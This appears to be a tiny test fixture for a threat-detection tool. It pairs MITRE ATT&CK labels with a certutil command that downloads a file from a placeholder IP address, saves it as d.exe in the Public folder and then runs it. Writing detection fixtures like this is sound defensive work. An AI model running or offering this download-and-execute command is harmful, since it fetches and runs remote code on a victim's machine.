# expect: T1105 T1204.002
certutil.exe -urlcache -split -f http://203.0.113.12/d.txt C:\Users\Public\d.exe
C:\Users\Public\d.exe
